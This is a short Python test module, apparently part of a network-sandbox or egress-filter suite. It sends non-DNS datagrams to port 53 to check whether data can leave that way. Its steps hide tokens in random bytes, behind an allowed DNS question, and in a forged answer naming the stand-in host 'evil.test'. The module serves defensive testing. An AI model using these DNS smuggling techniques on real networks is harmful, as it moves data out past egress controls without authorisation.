# SPDX-License-Identifier: Apache-2.0
"""Port 53 as an open door for any datagram."""
import os

import dns

TITLE = "datagrams on port 53 that are no questions"
THREAT = "18"


def attack(c):
    for name, server in (("resolver", c.resolver() or c.e), ("denied address", c.e), ("allowed address", c.a)):
        with c.step(f"{name}: arbitrary bytes") as token:
            c.udp(server, 53, os.urandom(20) + token.encode() + os.urandom(400))
        with c.step(f"{name}: behind an allowed question") as token:
            c.udp(server, 53, dns.query("ok.test", more=token.encode()))
        with c.step(f"{name}: an answer") as token:
            c.udp(server, 53, dns.query(f"{token}.evil.test", flags=0x8180))
        with c.step(f"{name}: id and flags only") as token:
            c.udp(server, 53, token.encode())
